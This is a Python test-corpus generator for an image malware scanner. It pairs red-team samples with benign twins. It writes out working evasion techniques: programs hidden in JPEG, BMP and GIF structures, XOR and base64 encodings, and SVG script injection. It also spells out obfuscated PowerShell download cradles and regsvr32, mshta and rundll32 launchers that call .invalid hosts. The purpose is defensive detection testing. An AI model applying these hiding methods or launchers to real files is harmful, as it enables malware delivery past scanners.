"""Red-team recipes: attacks built against the engine's design, each with its benign twin.

Round 2 of issue 11's evaluation: the attacks below passed the engine as clean (or only
flagged) before the rules they name were added (see /work/notes/redteam.md for the
whole list tried, caught before/after). Each malicious recipe is one of eval_classify's
pool photos with a payload hidden one way; the benign recipes hold the same photos with
what the rule looks at in an innocent form, so each rule is gated both ways.

* pixel data: a program (a linker's PE, the smallest PE, an ELF) inside JPEG scan data
  before EOI, a program stored as BMP pixel bytes, a script or a base64/hex program just
  before a JPEG's EOI or before the EOI of an MPF image it holds (rule: `stray_code`);
  twin: a clean two-image MPO;
* split values: a program or its base64 cut over several COM or vendor APPn segments or
  GIF comment extensions (rule: `split_values`); twins: a long comment over several COM
  segments, vendor segments with repeated tables, GIF comments in several parts;
* encodings: URL-safe base64, XOR with a 2- to 16-byte key, raw deflate (rule:
  `classify.decoders`); twins: a URL-safe base64 thumbnail in XMP, periodic vendor data;
* SVG: a script injected by an entity whose value spells it in character references, an
  SVG root with a namespace prefix, a CSS `url(javascript:)`; twins: a prefixed SVG
  without script, CSS `url(#gradient)`;
* types: virtual disks (VHD, VHDX, UDF) and Windows shell files (.url, .scf, .reg) named
  as pictures (rule: `sniff`);
* scripts: PowerShell with backtick escapes, split strings or `[char]` codes, and
  living-off-the-land launchers (regsvr32 /i: scrobj.dll, mshta URL, rundll32
  javascript:) in COM, trailers, zTXt and GIF comments (rule: `signatures.script_kind`);
  twin: a photographer's note with backticks and quoted words joined by `+`;
* an SVG iframe whose `srcdoc` document holds a script (rule: `svg_text`);
* a real disk image (ISO, UDF, VHD, VHDX) named `IMG_1234.jpg.iso`: the loader chain that
  escapes the mark of the web (rule: `engine._mountable_behind_decoy`); its twin, the
  same disk under its own name (`clinic-backup-IMG_1234.iso`), is not a picture, so
  tests/test_redteam_corpus.py checks it directly (the corpus's benign side is pictures);
* a program, ZIP or script in the slack of a DQT, DHT, SOF or SOS segment (its length
  covers more than its tables; rule: `jpeg.tables`); twin: all DQT and all DHT tables
  merged into one segment each, as T.81 allows;
* a name whose fake dot is a spacing dot drawn higher (U+2E33 RAISED DOT, U+02D9 DOT
  ABOVE...), which UTS #39 does not list as a confusable (rule: `name_chars.is_dot_like`);
  twin: a Catalan `l·l` in a stem.

Payloads are inert: program headers with a DOS stub, scripts that call `.invalid` hosts.
`EXPECTED` gives the verdict of each category (tests/test_redteam_corpus.py asserts it).
"""

from __future__ import annotations

import base64
import binascii
import random
import struct
import zlib

from bench import eval_images as img
from bench.eval_classify import HOST_POOL, Maker, Recipe, host
from tests import classify_samples as cs
from tests import jpeg_samples as js

PE = cs.real_pe()
SCRIPTS = (cs.POWERSHELL, cs.BATCH, cs.PYTHON, cs.HTA)
SVG_NS = "http://www.w3.org/2000/svg"


def _name(rng: random.Random, extension: str) -> str:
    return f"{rng.choice(('IMG', 'DSC', 'scan'))}_{rng.randint(1000, 9999)}.{extension}"


def _photo(rng: random.Random, fmt: str) -> bytes:
    return host(rng.randrange(HOST_POOL), fmt)[1]


def _pieces(data: bytes, rng: random.Random) -> list[bytes]:
    """Pieces short enough to cut a PE between its MZ and its PE\\0\\0 (at 0x80)."""
    size = rng.choice([40, 60, 100])
    return [data[i : i + size] for i in range(0, len(data), size)]


def _gif_extension(label: int, data: bytes) -> bytes:
    blocks = b"".join(
        bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255)
    )
    return b"\x21" + bytes([label]) + blocks + b"\x00"


def _gif_with(extensions: list[bytes], gif: bytes) -> bytes:
    at = 13 + (3 << ((gif[10] & 7) + 1) if gif[10] & 0x80 else 0)
    return gif[:at] + b"".join(extensions) + gif[at:]


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def _bmp_pixels(bmp: bytes, stored: bytes, at_fraction: float) -> bytes:
    start = struct.unpack_from("<I", bmp, 10)[0]
    room = len(bmp) - start - len(stored)
    at = start + int(room * at_fraction)
    return bmp[:at] + stored + bmp[at + len(stored) :]


# --- malicious ------------------------------------------------------------------------------


# The smallest PE a loader accepts: e_lfanew = 0x40, the PE header right after the DOS one.
TINY_PE = (
    b"MZ"
    + bytes(0x3A)
    + struct.pack("<I", 0x40)
    + b"PE\x00\x00"
    + struct.pack("<HH", 0x14C, 1)
    + bytes(240)
)


def _pixel_data(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    if way.startswith("bmp-pixels"):
        stored = PE if way == "bmp-pixels-pe" else cs.elf64()
        return _name(rng, "bmp"), _bmp_pixels(_photo(rng, "bmp"), stored, rng.random()), way
    jpeg = _photo(rng, "jpeg")
    if way == "mpf-image-scan":  # before the EOI of the MPF image a trailer holds
        second = _photo(rng, "jpeg")
        hidden = rng.choice([PE, TINY_PE, rng.choice(SCRIPTS)])
        return _name(rng, "jpg"), js.mpo(second[:-2] + hidden + second[-2:]), way
    if way == "jpeg-scan-pe":
        hidden = rng.choice([PE, TINY_PE, cs.elf64()])
    elif way == "jpeg-scan-encoded":
        hidden = rng.choice([base64.b64encode, base64.encodebytes, binascii.hexlify])(PE)
    else:
        hidden = rng.choice(SCRIPTS)
    return _name(rng, "jpg"), jpeg[:-2] + hidden + jpeg[-2:], way


def _split(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    if way == "gif-comments-pe":
        gif = _photo(rng, "gif")
        parts = [_gif_extension(0xFE, piece) for piece in _pieces(PE, rng)]
        return _name(rng, "gif"), _gif_with(parts, gif), way
    jpeg = _photo(rng, "jpeg")
    if way == "com-pe":
        segments = [js.segment(0xFE, piece) for piece in _pieces(PE, rng)]
    elif way == "com-base64":
        segments = [js.segment(0xFE, p) for p in _pieces(base64.b64encode(PE), rng)]
    else:  # a vendor-looking APPn signature repeated in front of every piece
        marker = rng.choice([0xE4, 0xE6, 0xE9, 0xEA, 0xEF])
        header = rng.choice([b"VNDR\x00", b"NXDT\x00\x01", b"HPQ-Capture\x00"])
        segments = [js.segment(marker, header + piece) for piece in _pieces(PE, rng)]
    return _name(rng, "jpg"), js.insert_segments(jpeg, *segments), way


def _encoded(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    fmt = rng.choice(["jpeg", "png", "gif"])
    data = _photo(rng, fmt)
    if way == "base64url-trailer":
        hidden = base64.urlsafe_b64encode(PE)
    elif way == "xor-key-trailer":
        key = bytes(rng.randrange(1, 256) for _ in range(rng.choice([2, 4, 8, 13, 16])))
        hidden = _xor(PE, key)
        way = f"{way} ({len(key)}-byte key)"
    elif way == "raw-deflate-trailer":
        hidden = zlib.compress(PE)[2:-4]
    else:  # base64url-xmp
        packet = img.xmp_packet(rng).replace(
            b"</x:xmpmeta>", b"<pg:d>" + base64.urlsafe_b64encode(PE) + b"</pg:d></x:xmpmeta>"
        )
        jpeg = _photo(rng, "jpeg")
        return (
            _name(rng, "jpg"),
            js.insert_segments(jpeg, js.segment(0xE1, img.XMP_SIGNATURE + packet)),
            way,
        )
    extension = {"jpeg": "jpg", "png": "png", "gif": "gif"}[fmt]
    return _name(rng, extension), data + hidden, f"{way} after {fmt}"


def _svg(body: str, prefix: str = "") -> bytes:
    """An SVG; with a prefix it has no XML declaration (the root is the first bytes)."""
    declare = f"xmlns:{prefix}" if prefix else "xmlns"
    tag = f"{prefix}:svg" if prefix else "svg"
    prolog = "" if prefix else "<?xml version='1.0'?>\n"
    return f"{prolog}<{tag} {declare}='{SVG_NS}' width='64' height='48'>{body}</{tag}>".encode()


def _svg_attack(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    # short calls the plain-text script detector does not know: only the SVG rules see them
    code = rng.choice(["alert(1)", "window['al'+'ert'](1)", "top.location='//x.invalid'"])
    if way == "entity-script":
        refs = "".join(f"&#{ord(c)};" for c in f"<script>{code}</script>")
        refs = rng.choice(
            [refs, refs.replace("&#60;", "&#x3c;"), f"&#60;script&#62;{code}&#60;/script&#62;"]
        )
        data = (
            f"<?xml version='1.0'?>\n<!DOCTYPE svg [<!ENTITY body '{refs}'>]>\n"
            f"<svg xmlns='{SVG_NS}' width='64' height='48'><rect width='9' height='9'/>&body;</svg>"
        ).encode()
    elif way == "prefixed-root":
        prefix = rng.choice(["s", "svg", "v"])
        data = _svg(
            f"<{prefix}:rect width='9' height='9'/><{prefix}:script>{code}</{prefix}:script>",
            prefix=prefix,
        )
    else:  # css-javascript-url
        rule = rng.choice(["fill", "background", "cursor"])
        data = _svg(
            f"<style>rect{{{rule}:url(javascript:{code})}}</style><rect width='9' height='9'/>"
        )
    return _name(rng, "svg"), data, way


# Spacing dots drawn at other heights, none of them a confusable of `.` in UTS #39.
RAISED_DOTS = ("\u2e33", "\u02d9", "\u0971", "\u0888", "\ufe45")


def _dot_name(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    stem = rng.choice(("IMG_2041", "wound-photo", "xray", "PXL_20240115_093012"))
    if way == "raised-dot":
        dot = rng.choice(RAISED_DOTS)
        name = f"{stem}{dot}{rng.choice(['jpg', 'png', 'jpeg'])}.{rng.choice(['exe', 'scr'])}"
        return name, _photo(rng, "jpeg"), f"U+{ord(dot):04X} before the decoy"
    word = rng.choice(("col·legi", "Sant·Pau", "cel·lular"))  # Catalan middle dot, a letter joiner
    return f"{word} {stem}.jpg", _photo(rng, "jpeg"), "Catalan middle dot in the stem"


def mountable(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    """A disk image Windows mounts on a double click, behind a picture decoy or not."""
    data = _disguised_type(rng.choice(["vhd", "vhdx", "udf"]), rng)[1]
    if rng.random() < 0.5:
        data = cs.iso9660()
    stem = f"{rng.choice(('IMG', 'scan', 'xray'))}_{rng.randint(1000, 9999)}"
    extension = rng.choice(["iso", "img", "vhd", "vhdx"])
    if way == "decoy":
        return f"{stem}.{rng.choice(['jpg', 'png', 'heic'])}.{extension}", data, way
    return f"clinic-backup-{stem}.{extension}", data, "a disk image under its own name"


def _disguised_type(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    if way == "vhd":
        footer = b"conectix" + bytes(504)
        data = (
            bytes(rng.choice([512, 4096])) + footer if rng.random() < 0.5 else footer + bytes(1024)
        )
    elif way == "vhdx":
        data = b"vhdxfile" + "Microsoft Windows 10".encode("utf-16-le") + bytes(4096)
    elif way == "udf":
        data = bytes(0x8000) + b"\x00BEA01\x01" + bytes(2041) + b"\x00NSR02\x01" + bytes(2041)
    elif way == "url":
        data = b"[InternetShortcut]\r\nURL=file://x.invalid/share/invoice.exe\r\nIconIndex=3\r\n"
    elif way == "scf":
        data = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\x.invalid\\share\\icon.ico\r\n"
    else:  # reg
        text = "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n"
        data = text.encode("utf-16-le") if rng.random() < 0.5 else text.encode()
        if data[1:2] == b"\x00":
            data = b"\xff\xfe" + data
    return _name(rng, rng.choice(["jpg", "png", "jpeg"])), data, way


OBFUSCATED_SCRIPTS = (
    # Invoke-Obfuscation's token layer: backtick escapes and split strings
    b"&('I'+'EX') (n`ew-obj`ect Net.WebC`lient).('Down'+'loadString').Invoke('http://x.invalid/a')",
    b'$w = New-Object ("Net." + "WebClient"); $w.("Download"+"File")(\'http://x.invalid/a.exe\')',
    b"$s=[char]73+[char]69+[char]88;&$s 'Start-Process calc'",
    # living-off-the-land launchers
    b"regsvr32 /s /n /u /i:http://x.invalid/a.sct scrobj.dll",
    b"mshta http://x.invalid/a.hta",
    b'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
)


def _script_place(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    script = rng.choice(OBFUSCATED_SCRIPTS)
    note = f"{way}: {script[:24]!r}"
    if way == "png-ztxt":
        png = _photo(rng, "png")
        chunk = img._png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(script))
        return _name(rng, "png"), png[:33] + chunk + png[33:], note
    if way == "gif-comment":
        return (
            _name(rng, "gif"),
            _gif_with([_gif_extension(0xFE, script)], _photo(rng, "gif")),
            note,
        )
    jpeg = _photo(rng, "jpeg")
    if way == "trailer":
        return _name(rng, "jpg"), jpeg + script, note
    return _name(rng, "jpg"), js.insert_segments(jpeg, js.segment(0xFE, script)), note


def _srcdoc(rng: random.Random) -> tuple[str, bytes, str]:
    page = rng.choice(["<script>alert(1)</script>", "<img src=x onerror=alert(1)>"])
    escaped = page.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    body = (
        "<foreignObject width='64' height='48'><iframe xmlns='http://www.w3.org/1999/xhtml' "
        f"srcdoc='{escaped}'/></foreignObject>"
    )
    return _name(rng, "svg"), _svg(body), "iframe srcdoc"


def _segments(jpeg: bytes) -> list[tuple[int, int, int]]:
    """(marker, offset, total length) of every segment from SOI up to and including SOS."""
    found, pos = [], 2
    while pos + 4 <= len(jpeg) and jpeg[pos] == 0xFF:
        marker, length = jpeg[pos + 1], struct.unpack(">H", jpeg[pos + 2 : pos + 4])[0]
        found.append((marker, pos, 2 + length))
        if marker == 0xDA:
            break
        pos += 2 + length
    return found


def _table_slack(rng: random.Random) -> tuple[str, bytes, str]:
    """A payload in the bytes a DQT/DHT/SOF/SOS segment's length covers past its tables."""
    jpeg = _photo(rng, "jpeg")
    marker, at, size = rng.choice([s for s in _segments(jpeg) if s[0] in (0xDB, 0xC4, 0xC0, 0xDA)])
    hidden = rng.choice([PE, TINY_PE, js.zip_archive(), rng.choice(SCRIPTS)])
    body = jpeg[at + 4 : at + size] + hidden
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body
    return _name(rng, "jpg"), jpeg[:at] + segment + jpeg[at + size :], f"slack of FF{marker:02X}"


def _merged_tables(jpeg: bytes) -> bytes:
    """The JPEG with all its DQT and all its DHT tables in one segment each (T.81 allows it)."""
    segments = _segments(jpeg)
    merged = {0xDB: b"", 0xC4: b""}
    for marker, at, size in segments:
        if marker in merged:
            merged[marker] += jpeg[at + 4 : at + size]
    out, placed = [jpeg[:2]], set()
    for marker, at, size in segments:
        if marker not in merged:
            out.append(jpeg[at : at + size])
        elif marker not in placed:
            placed.add(marker)
            out.append(bytes([0xFF, marker]) + struct.pack(">H", len(merged[marker]) + 2))
            out.append(merged[marker])
    last = segments[-1]
    return b"".join(out) + jpeg[last[1] + last[2] :]


# --- benign twins ---------------------------------------------------------------------------

PROSE_PARTS = (
    b"Patient consented to photography for the record. ",
    b"Left forearm, lateral view, lesion 4 mm, borders regular. ",
    b"Follow-up in six weeks; compare with the previous series. ",
)


def _benign(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    if way == "quoted-prose":  # backticks and quoted words joined by + in a photographer's note
        note = rng.choice(
            [
                b"Series `A` + `B`: 'left' + 'right' lateral views, f/2.8, ISO 200.",
                b"Retake of \"wound\" + \"scar\" set; see `notes.txt` for 'before'+'after'.",
            ]
        )
        return (
            _name(rng, "jpg"),
            js.insert_segments(_photo(rng, "jpeg"), js.segment(0xFE, note)),
            way,
        )
    if way == "gif-comment-parts":
        gif = _photo(rng, "gif")
        parts = [_gif_extension(0xFE, p * rng.randint(2, 6)) for p in PROSE_PARTS]
        return _name(rng, "gif"), _gif_with(parts, gif), way
    if way == "bmp-mz-bytes":  # pixels that spell MZ with no PE header behind them
        bmp = _photo(rng, "bmp")
        stored = (b"MZ" + bytes(rng.randrange(256) for _ in range(0x3E))) * 8
        return _name(rng, "bmp"), _bmp_pixels(bmp, stored, rng.random()), way
    if way == "prefixed-svg":
        prefix = rng.choice(["s", "svg"])
        body = (
            f"<{prefix}:rect width='9' height='9' fill='#c33'/>"
            f"<{prefix}:text x='1' y='20'>L arm</{prefix}:text>"
        )
        return _name(rng, "svg"), _svg(body, prefix=prefix), way
    if way == "css-url-gradient":
        body = (
            "<defs><linearGradient id='g'><stop offset='0' stop-color='#fff'/></linearGradient>"
            "</defs><style>rect{fill:url(#g)}</style><rect width='9' height='9'/>"
        )
        return _name(rng, "svg"), _svg(body), way
    jpeg = _photo(rng, "jpeg")
    if way == "mpo":  # a clean MPF second image: what the embedded-image tail search reads
        return _name(rng, "jpg"), js.mpo(_photo(rng, "jpeg")), way
    if way == "merged-tables":  # several tables per DQT/DHT segment: no slack
        return _name(rng, "jpg"), _merged_tables(jpeg), way
    if way == "com-parts":
        segments = [js.segment(0xFE, p * rng.randint(1, 30)) for p in PROSE_PARTS]
    elif way == "vendor-tables":  # periodic calibration tables, one vendor header each
        row = bytes(rng.randrange(256) for _ in range(rng.choice([2, 4, 8, 16])))
        segments = [js.segment(0xEA, b"VNDR\x00" + row * rng.randint(20, 200)) for _ in range(3)]
    else:  # base64url-thumbnail
        thumb = base64.urlsafe_b64encode(img._save(img.photo_image(rng, (64, 48)), "JPEG"))
        packet = img.xmp_packet(rng).replace(
            b"</x:xmpmeta>", b"<pg:thumb>" + thumb + b"</pg:thumb></x:xmpmeta>"
        )
        segments = [js.segment(0xE1, img.XMP_SIGNATURE + packet)]
    return _name(rng, "jpg"), js.insert_segments(jpeg, *segments), way


def _each(prefix: str, malicious: bool, ways: tuple[str, ...], make: object) -> tuple[Recipe, ...]:
    def bind(way: str) -> Maker:
        return lambda rng: make(way, rng)  # type: ignore[operator, no-any-return]

    return tuple(Recipe(f"{prefix}-{way}", malicious, 5, bind(way)) for way in ways)


PIXEL_WAYS = ("jpeg-scan-pe", "jpeg-scan-script", "jpeg-scan-encoded", "mpf-image-scan",
              "bmp-pixels-pe", "bmp-pixels-elf")  # fmt: skip
SPLIT_WAYS = ("com-pe", "com-base64", "app-vendor-pe", "gif-comments-pe")
ENCODED_WAYS = ("base64url-trailer", "base64url-xmp", "xor-key-trailer", "raw-deflate-trailer")
SVG_WAYS = ("entity-script", "prefixed-root", "css-javascript-url")
TYPE_WAYS = ("vhd", "vhdx", "udf", "url", "scf", "reg")
SCRIPT_WAYS = ("com", "trailer", "png-ztxt", "gif-comment")
BENIGN_WAYS = ("mpo", "merged-tables", "quoted-prose", "com-parts", "vendor-tables",
               "gif-comment-parts", "bmp-mz-bytes", "base64url-thumbnail", "prefixed-svg",
               "css-url-gradient")  # fmt: skip

RECIPES: tuple[Recipe, ...] = (
    *_each("benign/redteam", False, BENIGN_WAYS, _benign),
    *_each("malicious/redteam-pixels", True, PIXEL_WAYS, _pixel_data),
    *_each("malicious/redteam-split", True, SPLIT_WAYS, _split),
    *_each("malicious/redteam-encoded", True, ENCODED_WAYS, _encoded),
    *_each("malicious/redteam-svg", True, SVG_WAYS, _svg_attack),
    *_each("malicious/redteam-type", True, TYPE_WAYS, _disguised_type),
    *_each("malicious/redteam-obfuscated-script", True, SCRIPT_WAYS, _script_place),
    Recipe("malicious/redteam-mountable-decoy", True, 5, lambda rng: mountable("decoy", rng)),
    Recipe("malicious/redteam-name-raised-dot", True, 5, lambda rng: _dot_name("raised-dot", rng)),
    Recipe("benign/redteam-name-catalan-dot", False, 5, lambda rng: _dot_name("catalan", rng)),
    Recipe("malicious/redteam-svg-iframe-srcdoc", True, 5, _srcdoc),
    Recipe("malicious/redteam-jpeg-table-slack", True, 8, _table_slack),
)
# The verdict each category must reach under the default policy: every malicious file is
# a program, script or mountable disk; every twin is an ordinary picture.
EXPECTED = {recipe.category: "quarantine" if recipe.malicious else "clean" for recipe in RECIPES}
